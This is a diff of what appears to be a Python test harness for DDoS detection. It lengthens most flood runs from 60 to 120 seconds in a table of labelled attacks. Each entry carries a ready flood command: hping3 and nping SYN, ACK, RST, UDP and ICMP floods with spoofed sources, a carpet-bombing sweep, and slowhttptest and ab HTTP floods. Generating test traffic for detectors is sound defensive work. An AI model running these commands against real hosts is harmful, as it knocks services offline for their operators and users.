@@ -52,17 +52,17 @@ def slow(words: str) -> Callable[[Place], None]:
 
 
 ATTACKS = (
-    Attack("flood-syn", ("syn_flood",), ATTACKER, VICTIM, 60, hping(f"-S -p 80 {VICTIM}"), "hping3 -S"),
-    Attack("flood-syn-forged", ("syn_flood",), "", VICTIM, 60, hping(f"-S -p 80 --rand-source {VICTIM}"), "hping3 -S --rand-source"),
-    Attack("flood-syn-ipv6", ("syn_flood",), ATTACKER6, VICTIM6, 60, nping(f"--tcp --flags syn -g 40125 -p 80 {VICTIM6}"), "nping -6 --flags syn"),
-    Attack("flood-ack", ("ack_flood",), "", VICTIM, 60, hping(f"-A -p 80 --rand-source {VICTIM}"), "hping3 -A --rand-source"),
-    Attack("flood-rst", ("rst_flood",), "", VICTIM, 60, hping(f"-R -p 80 --rand-source {VICTIM}"), "hping3 -R --rand-source"),
-    Attack("flood-udp", ("udp_flood",), "", VICTIM, 60, hping(f"--udp -p 9999 -d 600 --rand-source {VICTIM}"), "hping3 --udp --rand-source"),
-    Attack("flood-udp-ipv6", ("udp_flood",), ATTACKER6, VICTIM6, 60, nping(f"--udp -g 40125 -p 9999 --data-length 400 {VICTIM6}"), "nping -6 --udp"),
-    Attack("flood-icmp", ("icmp_flood",), ATTACKER, VICTIM, 60, hping(f"--icmp -d 200 {VICTIM}"), "hping3 --icmp"),
-    Attack("flood-carpet", ("carpet_bombing",), "", "", 60, hping("--udp -p 7777 -d 200 --rand-source --rand-dest 192.0.2.x"), "hping3 --rand-dest", ""),
-    Attack("flood-dns", ("dns_flood",), ATTACKER, VICTIM, 60, dns, "script"),
-    Attack("flood-http", ("http_flood",), ATTACKER, VICTIM, 60, http, "ab"),
+    Attack("flood-syn", ("syn_flood",), ATTACKER, VICTIM, 120, hping(f"-S -p 80 {VICTIM}"), "hping3 -S"),
+    Attack("flood-syn-forged", ("syn_flood",), "", VICTIM, 120, hping(f"-S -p 80 --rand-source {VICTIM}"), "hping3 -S --rand-source"),
+    Attack("flood-syn-ipv6", ("syn_flood",), ATTACKER6, VICTIM6, 120, nping(f"--tcp --flags syn -g 40125 -p 80 {VICTIM6}"), "nping -6 --flags syn"),
+    Attack("flood-ack", ("ack_flood",), "", VICTIM, 120, hping(f"-A -p 80 --rand-source {VICTIM}"), "hping3 -A --rand-source"),
+    Attack("flood-rst", ("rst_flood",), "", VICTIM, 120, hping(f"-R -p 80 --rand-source {VICTIM}"), "hping3 -R --rand-source"),
+    Attack("flood-udp", ("udp_flood",), "", VICTIM, 120, hping(f"--udp -p 9999 -d 600 --rand-source {VICTIM}"), "hping3 --udp --rand-source"),
+    Attack("flood-udp-ipv6", ("udp_flood",), ATTACKER6, VICTIM6, 120, nping(f"--udp -g 40125 -p 9999 --data-length 400 {VICTIM6}"), "nping -6 --udp"),
+    Attack("flood-icmp", ("icmp_flood",), ATTACKER, VICTIM, 120, hping(f"--icmp -d 200 {VICTIM}"), "hping3 --icmp"),
+    Attack("flood-carpet", ("carpet_bombing",), "", "", 120, hping("--udp -p 7777 -d 200 --rand-source --rand-dest 192.0.2.x"), "hping3 --rand-dest", ""),
+    Attack("flood-dns", ("dns_flood",), ATTACKER, VICTIM, 120, dns, "script"),
+    Attack("flood-http", ("http_flood",), ATTACKER, VICTIM, 120, http, "ab"),
     Attack("slow-headers", ("slow_http",), ATTACKER, VICTIM, 90, slow("-H"), "slowhttptest -H"),
     Attack("slow-body", ("slow_http",), ATTACKER, VICTIM, 90, slow("-B"), "slowhttptest -B"),
 )
